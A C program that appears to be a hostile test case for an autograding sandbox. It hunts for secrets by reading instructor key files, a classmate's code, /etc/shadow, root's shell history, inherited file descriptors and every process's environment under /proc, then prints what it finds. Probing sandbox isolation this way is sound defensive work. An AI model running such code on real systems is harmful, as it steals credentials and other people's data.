/* Reads what isn't its own, by every way that it can think of, and prints what it got. */
#include "hostile.h"
static void show(const char *path)
{
    char buf[65536], *secret;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == 0)
            buf[i] = ' ';
    if (n > 0) {
        buf[n] = 0;
        secret = strstr(buf, "SEC" "RET");
        if (secret)
            fprintf(stderr, "%.40s", secret);
    }
    if (fd > 2)
        close(fd);
}
int main(int argc, char *argv[])
{
    const char *files[] = {INSTRUCTOR "/key.txt", CLASS "/neighbour.c", RESULTS "/evil.json", "key.txt", "up/key.txt",
        "submission/key.txt", "submission/up/key.txt", "/work/submission/key.txt", "/etc/shadow", "/root/.bash_history"};
    char path[4096];
    struct dirent *entry;
    DIR *proc;

    (void)argc;
    (void)argv;
    /* descriptors that it was born with */
    for (int fd = 3; fd < 1024; fd++) {
        lseek(fd, 0, SEEK_SET);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        show(path);
        if (read(fd, path, sizeof(path)) > 0)
            fprintf(stderr, "fd %d %.40s", fd, path);
    }
    for (int i = 0; i < 10; i++) {
        show(files[i]);
        snprintf(path, sizeof(path), "/proc/1/root%s", files[i]);
        show(path);
        snprintf(path, sizeof(path), "/proc/1/cwd/%s", files[i]);
        show(path);
    }
    /* everybody's environment and arguments */
    proc = opendir("/proc");
    while (proc && (entry = readdir(proc))) {
        snprintf(path, sizeof(path), "/proc/%s/environ", entry->d_name);
        show(path);
        snprintf(path, sizeof(path), "/proc/%s/cmdline", entry->d_name);
        show(path);
    }
    fprintf(stderr, "CANARY %s.\n", getenv("SECRET_ENV") ? getenv("SECRET_ENV") : "");
    return 1;
}
